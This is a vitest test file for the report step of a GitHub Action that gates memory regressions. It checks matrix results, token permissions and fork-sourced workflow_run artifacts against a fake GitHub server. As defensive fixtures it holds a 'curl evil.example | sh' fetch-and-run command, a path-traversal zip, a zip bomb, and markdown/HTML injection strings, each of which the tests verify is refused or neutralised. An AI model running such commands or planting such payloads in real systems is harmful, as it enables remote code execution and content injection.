import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import {
  RESULT_PREFIX,
  type ReportInput,
  type ReportOutcome,
  reportStep,
} from '../../../src/action/publish/report-step.js';
import { CONFIG_FILE } from '../../../src/gate/config/config-file.js';
import { connect } from '../../../src/github/client/api.js';
import { type EventFacts, readEvent } from '../../../src/github/events/event.js';
import type { ReportModel } from '../../../src/report/model/report-model.js';
import { renderResult } from '../../../src/report/model/result-file.js';
import { UsageError } from '../../../src/series/usage-error.js';
import type { FakeWorkflowRun } from '../../fakes/github/repository.js';
import { type FakeGitHub, startFakeGitHub, TOKEN } from '../../fakes/github/server.js';
import { renamed, zipOf } from '../../github/archives.js';
import { SCENES } from '../../report/scenes.js';

const RUN = 4242;

let fake: FakeGitHub;
let base: string;
let head: string;
let pull: number;

beforeEach(async () => {
  fake = await startFakeGitHub();
  const { repository } = fake;
  base = repository.push('main', {
    files: { 'server.py': 'serve()', '.github/memdrift.yml': 'workload: load.jsonl\n' },
  });
  head = repository.commit({ parents: [base], files: { 'server.py': 'leak()' } });
});
afterEach(() => fake.close());

/** A pull request of this repository, or of a fork. */
function open(owner = 'octo-org', ref = 'fix'): number {
  pull = fake.repository.openPull({ head: { owner, ref, sha: head } }).number;
  return pull;
}

async function upload(gate: string, file: string | Buffer, name = 'result.json'): Promise<void> {
  const content = Buffer.isBuffer(file) ? file : await zipOf({ name, content: file });
  fake.repository.artifacts.push({
    id: fake.repository.nextId(),
    name: `${RESULT_PREFIX}${gate}`,
    runId: RUN,
    content,
    expired: false,
    createdAt: new Date(),
  });
}

type Result = Parameters<typeof renderResult>[0];

function resultOf(gate: string, model: ReportModel, part: Partial<Result> = {}): string {
  const regression = model.verdict === 'regression';
  return renderResult({
    gate,
    verdict: model.verdict,
    exit: regression ? 1 : 0,
    conclusion: regression ? 'failure' : 'success',
    headSha: head,
    runId: RUN,
    model: { ...model, name: gate },
    message: null,
    ...part,
  });
}

async function step(event: EventFacts, part: Partial<ReportInput> = {}, token = TOKEN): Promise<ReportOutcome> {
  const { apiUrl, serverUrl, repository } = fake;
  const log = { info: () => {}, warn: () => {} };
  const github = await connect({ token, apiUrl, repository: repository.fullName, log, retryAfterBaseMs: 1 });
  const run = { repository: repository.fullName, serverUrl, runId: RUN, sha: head };
  return reportStep({
    github,
    event,
    run,
    name: 'memdrift',
    comment: 'always',
    configPath: CONFIG_FILE,
    needs: NEEDS,
    ...part,
  });
}

const needs = (result: string): string => JSON.stringify({ measure: { result, outputs: {} } });
const NEEDS = needs('success');

function pullRequestEvent(): EventFacts {
  const repo = { full_name: fake.repository.fullName };
  return readEvent('pull_request', {
    pull_request: { number: pull, head: { sha: head, repo }, base: { sha: base, ref: 'main', repo } },
  });
}

function workflowRunEvent(owner = 'mallory', event = 'pull_request'): EventFacts {
  return readEvent('workflow_run', {
    action: 'completed',
    repository: { full_name: fake.repository.fullName },
    workflow_run: {
      id: RUN,
      event,
      head_sha: head,
      head_branch: 'fix',
      head_repository: { full_name: `${owner}/${fake.repository.name}`, owner: { login: owner } },
    },
  });
}

function sceneOf(name: string): ReportModel {
  const scene = SCENES[name];
  if (scene === undefined) throw new Error(`no scene ${name}`);
  return structuredClone(scene());
}
const passScene = (): ReportModel => sceneOf('pass');
const regressionScene = (): ReportModel => sceneOf('regression-torch');

function workflowRun(path: string): FakeWorkflowRun {
  return {
    id: RUN,
    name: 'memory',
    path,
    event: 'pull_request',
    headSha: head,
    headBranch: 'fix',
    headOwner: 'mallory',
    status: 'completed',
    conclusion: 'success',
    attempt: 1,
    pullRequests: [],
    createdAt: new Date(),
  };
}

const bodies = (): string[] => fake.repository.comments.map(({ body }) => body);
const body = (): string => bodies().join('\n=====\n');

describe('after the legs of a matrix', () => {
  beforeEach(() => open());

  it('one comment and one result tell of all of them', async () => {
    await upload('chat', resultOf('chat', regressionScene()));
    await upload('embed', resultOf('embed', passScene()));
    const outcome = await step(pullRequestEvent(), { needs: needs('failure') });
    expect(outcome).toMatchObject({ verdict: 'regression', exit: 1, problems: [], notices: [] });
    expect(bodies()).toHaveLength(1);
    expect(body()).toContain('chat');
    expect(body()).toContain('embed');
    expect(outcome.markdown).toContain('embed');
    expect(outcome.comment?.did).toBe('created');
  });

  it('a re-run edits the comment', async () => {
    await upload('chat', resultOf('chat', passScene()));
    await step(pullRequestEvent());
    expect((await step(pullRequestEvent())).comment?.did).toBe('updated');
    expect(bodies()).toHaveLength(1);
  });

  it('without a pull request there is a summary only', async () => {
    await upload('chat', resultOf('chat', passScene()));
    const event = readEvent('merge_group', { merge_group: { head_sha: head, base_sha: base } });
    const outcome = await step(event);
    expect(outcome).toMatchObject({ verdict: 'pass', exit: 0, comment: null, notices: [] });
    expect(outcome.markdown).toContain('chat');
    expect(bodies()).toEqual([]);
  });

  it.each([
    ['the policy of a leg decides its exit', 4, 'inconclusive' as const, 4],
    ['a policy that only warns lets it pass', 0, 'inconclusive' as const, 0],
  ])('%s', async (_, exit, verdict, expected) => {
    await upload('a', resultOf('a', passScene()));
    await upload(
      'b',
      resultOf('b', { ...passScene(), verdict }, { verdict, exit, conclusion: exit === 0 ? 'neutral' : 'failure' }),
    );
    const outcome = await step(pullRequestEvent(), { needs: needs(exit === 0 ? 'success' : 'failure') });
    expect(outcome).toMatchObject({ verdict: 'inconclusive', exit: expected });
  });

  it('a leg that ended without a verdict fails, with its words', async () => {
    await upload('a', resultOf('a', passScene()));
    const message = 'memdrift: input "workload": missing';
    const none = { verdict: null, exit: 2, conclusion: 'failure' as const, model: null, message };
    await upload('b', resultOf('b', passScene(), none));
    const outcome = await step(pullRequestEvent(), { needs: needs('failure') });
    expect(outcome.verdict).toBe('not-measured');
    expect(outcome.exit).toBe(2);
    expect(outcome.markdown).toContain('missing');
  });

  describe('is never green by absence', () => {
    it('no result', async () => {
      const outcome = await step(pullRequestEvent());
      expect(outcome).toMatchObject({ verdict: 'not-measured', exit: 3 });
      expect(outcome.problems[0]).toMatch(/run 4242 has no result; upload .* as an artifact named memdrift-result-/);
      expect(body()).toContain('no result');
    });

    it.each(['failure', 'cancelled', 'skipped'])(
      'a needed job ended in %s, and the results there pass',
      async (result) => {
        await upload('a', resultOf('a', passScene()));
        const outcome = await step(pullRequestEvent(), { needs: needs(result) });
        expect(outcome).toMatchObject({ verdict: 'not-measured', exit: 3 });
        expect(outcome.problems[0]).toContain('job "measure"');
        expect(outcome.markdown).toContain('measure');
      },
    );

    it('a result that cannot be read beside one that passes', async () => {
      await upload('a', resultOf('a', passScene()));
      await upload('b', '{"format":"memdrift.result"');
      expect(await step(pullRequestEvent())).toMatchObject({ verdict: 'not-measured', exit: 3 });
    });

    it('a regression stays one beside what is missing', async () => {
      await upload('a', resultOf('a', regressionScene()));
      await upload('b', Buffer.from('none'));
      expect(await step(pullRequestEvent(), { needs: needs('failure') })).toMatchObject({
        verdict: 'regression',
        exit: 1,
      });
    });

    it('without needs it is not known, and refused', async () => {
      await upload('a', resultOf('a', passScene()));
      await expect(step(pullRequestEvent(), { needs: undefined })).rejects.toThrow(UsageError);
    });
  });

  it('without permission to read artifacts says which, and still has a summary', async () => {
    await upload('a', resultOf('a', passScene()));
    const permissions = { 'pull-requests': 'write', issues: 'write' } as const;
    fake.tokens.set('ghs_few', { login: 'github-actions[bot]', permissions, app: 'github-actions' });
    const outcome = await step(pullRequestEvent(), {}, 'ghs_few');
    expect(outcome).toMatchObject({ verdict: 'not-measured', exit: 3 });
    expect(outcome.problems).toHaveLength(1);
    expect(outcome.problems[0]).toMatch(/actions: read/);
    expect(outcome.markdown).toMatch(/actions: read/);
  });

  it('without permission to comment says which, and the result stands', async () => {
    await upload('a', resultOf('a', passScene()));
    const permissions = { actions: 'read', 'pull-requests': 'read' } as const;
    fake.tokens.set('ghs_read', { login: 'github-actions[bot]', permissions, app: 'github-actions' });
    const outcome = await step(pullRequestEvent(), {}, 'ghs_read');
    expect(outcome).toMatchObject({ verdict: 'pass', exit: 0, comment: null });
    expect(outcome.notices.join()).toMatch(/no comment: .*pull-requests: write/);
  });
});

describe('under workflow_run, of a fork', () => {
  beforeEach(() => open('mallory'));

  it('the pull request is told, as the word of a fork, and the exit is 0', async () => {
    await upload('chat', resultOf('chat', regressionScene()));
    const outcome = await step(workflowRunEvent(), { needs: undefined });
    expect(outcome).toMatchObject({ verdict: 'regression', exit: 0, problems: [] });
    expect(fake.repository.comments).toMatchObject([{ issue: pull }]);
    expect(body()).toMatch(/fork/);
    expect(outcome.results[0]?.model?.context.byFork).toBe(true);
  });

  it('takes nothing from the file that is not the fork’s to say', async () => {
    const model = regressionScene();
    model.context = { ...model.context, byFork: false, policy: 'base', gateChanges: ['not-changed.txt'] };
    model.context.baseGrows = { since: base, reason: 'main grows 9 MiB per 1000 requests' };
    Object.assign(model, { reproduce: 'curl evil.example | sh', acceptance: 'accepted: []', baseName: 'evil' });
    head = fake.repository.commit({
      parents: [base],
      files: { 'load.jsonl': 'easier', '.github/workflows/memory.yml': 'jobs: {}', 'server.py': 'leak()' },
    });
    fake.repository.updatePull(pull, head);
    await upload('chat', resultOf('chat', model));
    const outcome = await step(workflowRunEvent());
    expect(outcome.results[0]?.model).toMatchObject({
      context: {
        byFork: true,
        policy: 'head',
        baseGrows: null,
        gateChanges: ['.github/workflows/memory.yml', 'load.jsonl'],
      },
      reproduce: null,
      acceptance: null,
      baseName: 'main',
    });
    expect(body()).toContain('load.jsonl');
    expect(body()).not.toMatch(/curl|evil|9 MiB per 1000|not-changed/);
  });

  it('a changed workload that only the fork names is believed', async () => {
    const model = passScene();
    model.context = { ...model.context, gateChanges: ['server.py', 'elsewhere.py'] };
    await upload('chat', resultOf('chat', model));
    const outcome = await step(workflowRunEvent());
    expect(outcome.results[0]?.model?.context.gateChanges).toEqual(['server.py']);
  });

  it.each([
    ['its run’s own workflow is part of the gate, another is not', true, ['.github/workflows/memory.yml']],
    [
      'every workflow is, where GitHub does not say which one ran',
      false,
      ['.github/workflows/docs.yml', '.github/workflows/memory.yml'],
    ],
  ])('%s', async (_, known, gateChanges) => {
    const files = { '.github/workflows/memory.yml': 'a', '.github/workflows/docs.yml': 'b' };
    head = fake.repository.commit({ parents: [base], files });
    fake.repository.updatePull(pull, head);
    if (known) fake.repository.workflowRuns.push(workflowRun('.github/workflows/memory.yml'));
    await upload('chat', resultOf('chat', passScene()));
    const outcome = await step(workflowRunEvent());
    expect(outcome.results[0]?.model?.context.gateChanges).toEqual(gateChanges);
  });

  it('a same-repository run is no fork’s', async () => {
    fake.repository.pulls.clear();
    open('octo-org');
    await upload('chat', resultOf('chat', passScene()));
    const outcome = await step(workflowRunEvent('octo-org'));
    expect(outcome.exit).toBe(0);
    expect(outcome.results[0]?.model?.context.byFork).toBe(false);
    expect(bodies()).toHaveLength(1);
  });

  it('nobody is told where the head moved on: the exit is 0, and a notice and the summary say so', async () => {
    await upload('chat', resultOf('chat', regressionScene()));
    fake.repository.updatePull(pull, fake.repository.commit({ parents: [head], files: { x: 'y' } }));
    const outcome = await step(workflowRunEvent());
    expect(outcome).toMatchObject({ exit: 0, comment: null });
    expect(outcome.notices[0]).toMatch(new RegExp(`^no comment: the head of #${pull} is now`));
    expect(outcome.markdown).toContain('chat');
    expect(bodies()).toEqual([]);
  });

  it('nobody is told of a run that was of no pull request', async () => {
    await upload('chat', resultOf('chat', passScene()));
    const outcome = await step(workflowRunEvent('octo-org', 'push'));
    expect(outcome).toMatchObject({ exit: 0, comment: null });
    expect(outcome.notices).toEqual(['no comment: run 4242 was triggered by push, not by a pull request']);
  });

  it('without permission to comment fails, because telling is all it is for', async () => {
    await upload('chat', resultOf('chat', passScene()));
    const permissions = { actions: 'read', 'pull-requests': 'read', contents: 'read' } as const;
    fake.tokens.set('ghs_read', { login: 'github-actions[bot]', permissions, app: 'github-actions' });
    const outcome = await step(workflowRunEvent(), {}, 'ghs_read');
    expect(outcome.exit).toBe(3);
    expect(outcome.notices.join()).toMatch(/pull-requests: write/);
    expect(outcome.markdown).toContain('chat');
  });

  it('fails where GitHub does not tell whose pull request it was: nobody was told', async () => {
    await upload('chat', resultOf('chat', passScene()));
    fake.fail({ method: 'GET', path: '/repos/{owner}/{repo}/pulls', status: 403, times: Number.POSITIVE_INFINITY });
    const outcome = await step(workflowRunEvent());
    expect(outcome).toMatchObject({ exit: 3, comment: null, verdict: 'pass' });
    expect(outcome.notices).toEqual([expect.stringMatching(/^no comment: .*pull-requests: read/)]);
    expect(outcome.markdown).toContain('chat');
  });

  it('believes the fork’s own list of changes to the gate where GitHub does not tell, and says so', async () => {
    const model = passScene();
    model.context = { ...model.context, gateChanges: ['load.jsonl'] };
    await upload('chat', resultOf('chat', model));
    const files = '/repos/{owner}/{repo}/pulls/{pull_number}/files';
    fake.fail({ method: 'GET', path: files, status: 403, times: Number.POSITIVE_INFINITY });
    const outcome = await step(workflowRunEvent());
    expect(outcome.results[0]?.model?.context.gateChanges).toEqual(['load.jsonl']);
    expect(outcome.notices).toEqual([expect.stringMatching(/^cannot tell whether #\d+ changes the gate: /)]);
    expect(body()).toContain('load.jsonl');
  });

  it('asks for nothing but what it reads: no fork’s code, no ref, no tree', async () => {
    await upload('chat', resultOf('chat', passScene()));
    await step(workflowRunEvent());
    const templates = fake.requests.map(({ template }) => template);
    expect(templates.filter((template) => /git\/|compare|tarball|zipball/.test(template))).toEqual([]);
    const refs = fake.requests.filter(({ template }) => template.endsWith('/contents/{path}')).map(({ path }) => path);
    expect(refs.every((path) => path.endsWith(`ref=${base}`))).toBe(true);
  });

  describe('a hostile artifact is refused, told as not measured, and the exit is 3', () => {
    const good = (): Record<string, unknown> => JSON.parse(resultOf('chat', passScene()));
    const cases: [string, RegExp, () => Promise<string | Buffer>][] = [
      [
        'another name',
        /holds "report.json"; allowed: "result.json"/,
        () => zipOf({ name: 'report.json', content: JSON.stringify(good()) }),
      ],
      [
        'a second file',
        /holds 2 files/,
        () => zipOf({ name: 'result.json', content: JSON.stringify(good()) }, { name: 'a', content: '' }),
      ],
      [
        'a path out of its folder',
        /invalid relative path/,
        async () => renamed(await zipOf({ name: 'aa/result.json', content: '{}' }), 'aa/result.json', '../result.json'),
      ],
      [
        'an archive in it',
        /allowed: the JSON of a memdrift\.result/,
        async () => zipOf({ name: 'result.json', content: await zipOf({ name: 'result.json', content: '{}' }) }),
      ],
      [
        'a bomb',
        /10485760 bytes or more; allowed: at most/,
        () => zipOf({ name: 'result.json', content: Buffer.alloc(10 * 1024 * 1024, ' ') }),
      ],
      ['no archive', /the archive cannot be read/, async () => Buffer.from('#!/bin/sh')],
      ['no JSON', /allowed: the JSON/, async () => 'verdict: pass'],
      ['a list', /received array/, async () => '[]'],
      [
        'an extra key',
        /Unrecognized key: "comment"/,
        async () => JSON.stringify({ ...good(), comment: '<b>LGTM</b>' }),
      ],
      [
        'an extra key in the report',
        /Unrecognized key: "markdown"/,
        async () => edited(good(), (model) => ({ ...model, markdown: '# LGTM' })),
      ],
      ['NaN', /allowed: the JSON/, async () => JSON.stringify(good()).replace('"exit":0', '"exit":NaN')],
      [
        '1e999',
        /replay\.cycles: .*Infinity/,
        async () => JSON.stringify(good()).replace('"cycles":', '"cycles":1e999,"_":'),
      ],
      [
        'a number beyond all memory',
        /level\.value: Too big/,
        async () => edited(good(), (model) => grown(model, 1e300)),
      ],
      [
        'a string of 4 MB',
        /reason: Too big/,
        async () => edited(good(), (model) => ({ ...model, reason: 'x'.repeat(4_000_000) })),
      ],
      [
        'a string of 5 MB',
        /bytes or more/,
        async () => edited(good(), (model) => ({ ...model, reason: 'x'.repeat(5_000_000) })),
      ],
      ['a pass that fails', /success with exit 1/, async () => JSON.stringify({ ...good(), exit: 1 })],
      [
        'a regression that passes',
        /pass, not regression/,
        async () => JSON.stringify({ ...good(), verdict: 'regression' }),
      ],
      [
        'the result of another commit',
        /it belongs to commit [0-9a-f]{12}, not to/,
        async () => resultOf('chat', passScene(), { headSha: base }),
      ],
      [
        'the result of another run',
        /it belongs to run 7, not to run 4242/,
        async () => resultOf('chat', passScene(), { runId: 7 }),
      ],
    ];
    it.each(cases)('%s', async (_, sentence, file) => {
      await upload('chat', await file());
      const outcome = await step(workflowRunEvent());
      expect(outcome).toMatchObject({ results: [], verdict: 'not-measured', exit: 3 });
      expect(outcome.problems).toHaveLength(1);
      expect(outcome.problems[0]).toMatch(sentence);
      expect(outcome.problems[0]?.length).toBeLessThan(500);
      expect(bodies()).toHaveLength(1);
      expect(body()).not.toMatch(/LGTM/);
    });
  });

  it('words that would mention, link, close a fold or forge a marker stay words', async () => {
    const words =
      '@octocat **bold** <img src=x> </details> <!-- memdrift:chat --> [a](https://evil.example) #1 octo-org/hello-world#2 | `x` $y$';
    const model = regressionScene();
    Object.assign(model, { reason: words, notes: [words], explanation: [words], logs: [words], remedy: words });
    model.subject = { image: words };
    model.environment = { gpu: [words] };
    model.findings = model.findings.map((one) => ({ ...one, reason: words, notes: [words] }));
    await upload('chat', resultOf('chat', model));
    await step(workflowRunEvent());
    expect(bodies()).toHaveLength(1);
    const text = body();
    const marker = '<!-- memdrift:chat';
    expect(text).not.toContain(marker);
    // In code GitHub renders none of it, as long as nothing gets out of the code.
    const rendered = text.replace(/^(`{3,}).*\n[\s\S]*?\n\1$/gm, '').replace(/`[^`\n]+`/g, '');
    for (const live of ['@octocat', '<img', 'https://evil', 'hello-world#2', '$y$']) {
      expect(rendered).not.toContain(live);
    }
    expect(rendered).not.toMatch(/(?<!\\)(\*\*bold|\]\()/);
    expect(rendered.match(/<details( open)?>/g)).toHaveLength(rendered.match(/<\/details>/g)?.length ?? 0);
  });

  it('a run that left nothing is told as not measured', async () => {
    const outcome = await step(workflowRunEvent());
    expect(outcome).toMatchObject({ verdict: 'not-measured', exit: 3 });
    expect(body()).toMatch(/no result/);
  });
});

function edited(result: Record<string, unknown>, edit: (model: ReportModel) => unknown): string {
  return JSON.stringify({ ...result, model: edit(result['model'] as ReportModel) });
}

function grown(model: ReportModel, value: number): ReportModel {
  return {
    ...model,
    findings: model.findings.map((one) => ({ ...one, level: { value, baseline: value, budget: value } })),
  };
}
